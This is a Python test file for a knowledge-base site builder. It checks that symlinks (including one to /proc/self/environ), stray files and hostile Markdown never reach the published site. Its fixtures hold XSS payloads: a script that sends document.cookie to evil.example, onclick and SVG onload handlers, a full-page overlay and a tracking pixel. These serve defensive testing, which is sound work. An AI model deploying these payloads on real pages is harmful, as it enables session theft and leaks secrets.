"""Only what kedb renders is published (issue #15, item 2).

MkDocs' ``docs_dir`` is ``content/``, so before this every file there went into every edition: a
committed ``content/env.txt -> /proc/self/environ`` put the build's environment on the public
site, ``content/*.md`` pages rendered raw HTML, and playbooks skipped the record sanitiser. These
tests build real sites of a small KB, with ``kedb build`` and with ``mkdocs build``, and read
every file written (gzip files too)."""

from __future__ import annotations

import gzip
import os
import re
import shutil
import struct
import subprocess
import sys
import zlib
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kbtest import REPO, kedb
from kedb.build.context import make
from kedb.core.kb import Record
from kedb.core.load import files, loader, scan
from kedb.core.program import Playbook
from kedb.site.render import render

TOKEN = "glpat-KEDBFAKETOKEN0123456789abcdef"  # a fake CI token: the scanner's idea of a GitLab token
PLAYBOOK = "content/playbooks/loop.md"


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b"")


def site_bytes(site: Path) -> dict[str, bytes]:
    """Every file of a built site as bytes, gzip files decompressed."""
    out = {}
    for p in sorted(site.rglob("*")):
        if p.is_file():
            data = p.read_bytes()
            out[p.relative_to(site).as_posix()] = gzip.decompress(data) if p.suffix == ".gz" else data
    return out


def containing(site: Path, needle: str) -> list[str]:
    return [name for name, data in site_bytes(site).items() if needle.encode() in data]


def findings(root: Path, *args: str) -> tuple[int, list[tuple[str, int, str]], str]:
    res = kedb("--root", str(root), "check", *args)
    found = [(m[1], int(m[2]), m[3]) for m in re.finditer(r"^(\S+):(\d+): (KE\d{3}) ", res.output, re.M)]
    return res.exit_code, found, res.output


def mkdocs_build(root: Path, site: Path) -> subprocess.CompletedProcess[str]:
    """`mkdocs build` in the KB, with the repository's mkdocs.yml (the plugin loads and checks the KB)."""
    if not (root / "mkdocs.yml").exists():
        shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    cmd = [sys.executable, "-m", "mkdocs", "build", "-q", "-f", "mkdocs.yml", "-d", str(site)]
    return subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=300)


def kedb_build(root: Path, *args: str) -> Path:
    res = kedb("--root", str(root), "build", "--only", "site", *args)
    assert res.exit_code == 0, res.output
    return root / "site"


class Elements(HTMLParser):
    """Every element with its attributes, and the text of inline scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        self._script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script:
            self.scripts.append(data)


def elements(html: str) -> Elements:
    p = Elements()
    p.feed(html)
    return p


def article(html: str) -> str:
    return html[html.index("<article") : html.index("</article>")]


# ---------------------------------------------------------------- symbolic links
def test_a_symlinked_env_file_is_refused_and_its_content_never_published(make_kb, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "environ").write_text(f"CI_JOB_TOKEN={TOKEN}\nHOME=/root\n")
    (outside / "dir").mkdir()
    (outside / "dir" / "env.md").write_text(f"# Env\n\n{TOKEN}\n")
    root = make_kb()
    (root / "content" / "env.txt").symlink_to(outside / "environ")

    code, found, output = findings(root)
    assert code == 1 and ("content/env.txt", 1, "KE014") in found
    assert TOKEN not in output  # the link is reported, never read
    res = kedb("--root", str(root), "build", "--only", "site")
    assert res.exit_code == 1 and "KE014" in res.output and not (root / "site").exists()
    proc = mkdocs_build(root, tmp_path / "mkdocs-site")
    assert proc.returncode != 0 and "KE014" in proc.stderr and TOKEN not in proc.stderr
    assert not (tmp_path / "mkdocs-site").exists() or containing(tmp_path / "mkdocs-site", TOKEN) == []

    # A build whose check was bypassed (the context made before the links appeared) still copies
    # nothing of content/: not the linked file, not a file inside a linked folder.
    (root / "content" / "env.txt").unlink()
    ctx = make(root)
    (root / "content" / "env.txt").symlink_to(outside / "environ")
    (root / "content" / "linked").symlink_to(outside / "dir")
    site = render(ctx, tmp_path / "rendered")
    names = site_bytes(site)
    assert len(names) > 20 and not [n for n in names if n.startswith(("env", "linked"))]
    assert containing(site, TOKEN) == [] and containing(site, "CI_JOB_TOKEN") == []


def test_symlinks_anywhere_in_the_kb_are_refused(make_kb, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(f"token: {TOKEN}\n")
    root = make_kb({"content/assets/real.png": png(), "templates/site/assets/README.txt": "notes\n"})
    links = {
        "content/assets/diagram.png": secret,
        "content/kpi/2026-08.yml": secret,  # a stored aggregate: read_stored must not follow it
        "content/docs": tmp_path,  # a linked folder
        "known_errors/notes.txt": secret,  # not a record, still a link
        "templates/site/home.html.j2": secret,  # the site would render it
        "templates/new/known-error.md.j2": secret,  # kedb check reads it for KE311
    }
    for rel, target in links.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).symlink_to(target)
    code, found, output = findings(root)
    assert code == 1
    assert {(p, c) for p, _, c in found if c == "KE014"} == {(rel, "KE014") for rel in links}
    assert TOKEN not in output
    assert "content/assets/diagram.png" not in files.content_files(root).assets
    assert files.content_files(root).assets == ("content/assets/real.png",)


def test_a_symlinked_content_folder_is_not_read(make_kb, tmp_path: Path) -> None:
    root = make_kb()
    real = tmp_path / "real-content"
    shutil.move(root / "content", real)
    (root / "content").symlink_to(real)
    code, found, _ = findings(root)
    assert code == 1 and ("content", 1, "KE014") in found
    assert not [f for f in found if f[0].startswith("content/")]  # nothing read through the link


# ---------------------------------------------------------------- playbooks: the same renderer and rules as records
HOSTILE = """
Read this first.

<script>fetch('https://evil.example/?c=' + document.cookie)</script>

Covered
{: style="position:fixed;top:0;left:0;width:100%;height:100%;background:white" }

Click here {: onclick="steal()" }

![tracker](https://evil.example/pixel.png)

`{: style="quoted code is fine"}` and ![local](../assets/diagram.png)

## Escalate

![missing](../assets/nowhere.png) and [the known error](../../known_errors/KE-0001-outlook-prompts.md#symptoms).
"""


def hostile_playbook(root: Path) -> dict[str, int]:
    """Append HOSTILE to the fixture's playbook; the line of each piece, as kedb check must report it."""
    path = root / PLAYBOOK
    text = path.read_text().rstrip("\n") + "\n" + HOSTILE
    path.write_text(text)
    lines = text.split("\n")

    def line(needle: str) -> int:
        return next(i for i, s in enumerate(lines, 1) if needle in s)

    return {
        "script": line("<script>"),
        "style": line("position:fixed"),
        "event": line("onclick"),
        "remote": line("evil.example/pixel.png"),
        "missing": line("nowhere.png"),
    }


def test_kedb_check_reports_unsafe_playbook_markdown_at_its_lines(make_kb) -> None:
    root = make_kb({"content/assets/diagram.png": png()})
    at = hostile_playbook(root)
    code, found, _ = findings(root)
    assert code == 1
    mine = {(line, c) for p, line, c in found if p == PLAYBOOK}
    assert mine == {
        (at["script"], "KE501"),
        (at["style"], "KE506"),
        (at["event"], "KE503"),
        (at["remote"], "KE507"),
        (at["missing"], "KE507"),
    }


def test_the_same_rules_hold_for_record_bodies(make_kb) -> None:
    root = make_kb()
    ke = root / "known_errors" / "KE-0001-outlook-prompts.md"
    text = ke.read_text().rstrip("\n") + '\n\nSee {: style="display:none" } and ![x](http://evil.example/x.gif)\n'
    ke.write_text(text)
    n = len(text.rstrip("\n").split("\n"))
    _, found, _ = findings(root)
    assert {(line, c) for p, line, c in found if p == ke.relative_to(root).as_posix()} == {(n, "KE506"), (n, "KE507")}


def test_a_playbook_that_slipped_past_the_check_is_rendered_inert(make_kb, tmp_path: Path) -> None:
    """The renderer neutralises what kedb check rejects: no script, no author's style or on*=
    attribute, nothing fetched from another host; local links and images still work."""
    root = make_kb({"content/assets/diagram.png": png()})
    ctx = make(root)  # checked clean; the hostile playbook is put in afterwards, as if the check was skipped
    hostile_playbook(root)
    res = loader.read_markdown(root / PLAYBOOK, PLAYBOOK, Playbook, scan.Allow(), 10**6, 10**4)
    assert res.model is not None and res.source is not None
    ctx = replace(ctx, kb=replace(ctx.kb, playbooks=(Record(res.model, res.source),)))
    site = render(ctx, tmp_path / "site")

    html = (site / "playbooks" / "loop" / "index.html").read_text()
    page = elements(html)
    body = elements(article(html))
    assert not [t for t, _ in body.elements if t in ("script", "style", "iframe", "object", "embed")]
    assert not [a for _, a in body.elements if "style" in a or any(k.startswith("on") for k in a)]
    assert not [a for _, a in page.elements if any(k.startswith("on") for k in a)]
    assert not [s for s in page.scripts if "evil.example" in s or "cookie" in s]
    fetched = [
        (t, v)
        for t, a in page.elements
        for k, v in a.items()
        if k in ("src", "srcset", "data", "poster", "background") or (t == "link" and k == "href")
    ]
    assert fetched and not [v for _, v in fetched if re.match(r"(?i)^(?:[a-z][a-z0-9+.-]*:)?//", v)]
    # The remote image is a link to it; the local one is shown from the site's own copy.
    assert ("a", {"href": "https://evil.example/pixel.png", "rel": "noopener noreferrer"}) in body.elements
    assert ("img", {"src": "../../assets/diagram.png", "alt": "local", "loading": "lazy"}) in body.elements
    assert (site / "assets" / "diagram.png").read_bytes() == png()
    assert ("a", {"href": "../../known-errors/KE-0001/#symptoms"}) in [(t, {"href": a.get("href", "")}) for t, a in body.elements]
    assert '<h2 id="escalate">' in html  # sections keep their anchored headings


# ---------------------------------------------------------------- content/: pages, stray files, assets
STRAY = {
    "content/notes.txt": "Ring the vendor on Mondays.\n",
    "content/secrets.yml": "vpn_preshared: see the vault\n",
    "content/about.md": "# About\n\n<script>alert('page')</script>\n",
    "content/assets/unused.png": png(),  # allowed, but no page of the edition shows it
    "content/assets/evil.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "content/assets/page.html": "<script>alert(1)</script>",
    "content/assets/fake.png": "<html><script>alert(1)</script></html>",  # not a PNG whatever its name says
    "content/assets/diagram.png": png(),
    "content/assets/.hidden.png": png(),
}
NOT_PUBLISHED = ("notes.txt", "secrets.yml", "about", "unused.png", "evil.svg", "page.html", "fake.png", ".hidden.png")


def kb_with_stray_files(make_kb) -> Path:
    root = make_kb(STRAY)
    pb = root / PLAYBOOK
    pb.write_text(pb.read_text() + "\n![the loop](../assets/diagram.png) and [a copy of it](../assets/diagram.png)\n")
    return root


def test_kedb_check_warns_about_every_file_it_would_not_publish(make_kb) -> None:
    root = kb_with_stray_files(make_kb)
    code, found, _ = findings(root)
    assert code == 0  # warnings: nothing unsafe is published
    stray = sorted(p for p, _, c in found if c == "KE015")
    expected = ["content/about.md", "content/assets/evil.svg", "content/assets/fake.png", "content/assets/page.html", "content/notes.txt"]
    assert stray == sorted([*expected, "content/secrets.yml"])
    assert findings(root, "--strict")[0] == 1
    assert files.content_files(root).assets == ("content/assets/diagram.png", "content/assets/unused.png")


def test_a_stray_file_is_still_scanned_for_secrets(make_kb) -> None:
    """A copy of /proc/self/environ (values end with NUL) committed as a real file: not published, still refused."""
    root = make_kb({"content/env.txt": f"HOME=/root\0CI_JOB_TOKEN={TOKEN}\0".encode()})
    code, found, output = findings(root)
    assert code == 1 and ("content/env.txt", 2, "KE401") in found and ("content/env.txt", 1, "KE015") in found
    assert TOKEN not in output


@pytest.mark.parametrize("how", ["kedb build", "mkdocs build"])
def test_only_rendered_pages_and_shown_assets_are_published(make_kb, tmp_path: Path, how: str) -> None:
    root = kb_with_stray_files(make_kb)
    if how == "kedb build":
        site = kedb_build(root)
    else:
        proc = mkdocs_build(root, tmp_path / "site")
        assert proc.returncode == 0, proc.stderr
        site = tmp_path / "site"
    names = site_bytes(site)
    assert names["assets/diagram.png"] == png()
    assert not [n for n in names if n.split("/")[-1] in NOT_PUBLISHED or n.startswith(NOT_PUBLISHED)]
    theirs = ("assets/kedb/", "assets/javascripts/", "assets/stylesheets/", "assets/images/")  # kedb's and Material's
    rendered = {"llms.txt"}  # kedb writes it (kedb.site.catalogue); it is no file of content/
    assert not [n for n in names if n.endswith((".yml", ".yaml", ".md", ".txt", ".svg")) and not n.startswith(theirs) and n not in rendered]
    assert [n for n in names if n.startswith("assets/") and not n.startswith(theirs)] == ["assets/diagram.png"]
    for text in ("Ring the vendor", "vpn_preshared", "alert('page')", "alert(1)"):
        assert containing(site, text) == [], text
    html = (site / "playbooks" / "loop" / "index.html").read_text()
    assert '<img src="../../assets/diagram.png" alt="the loop" loading="lazy">' in html
    assert re.search(r'<a href="\.\./\.\./assets/diagram\.png"[^>]*>a copy of it</a>', html)


def test_an_asset_only_an_internal_page_shows_is_not_in_the_public_edition(make_kb) -> None:
    root = kb_with_stray_files(make_kb)
    site = kedb_build(root, "--audience", "public")
    names = site_bytes(site)
    assert "playbooks/loop/index.html" not in names and "assets/diagram.png" not in names


def test_a_theme_file_a_content_file_shadowed_is_still_published(make_kb) -> None:
    """content/assets/images/favicon.png is dropped with the rest of content/; Material's own stays."""
    root = make_kb({"content/assets/images/favicon.png": b"not the theme's favicon"})
    site = kedb_build(root)
    favicon = (site / "assets" / "images" / "favicon.png").read_bytes()
    assert favicon.startswith(b"\x89PNG") and favicon != b"not the theme's favicon"
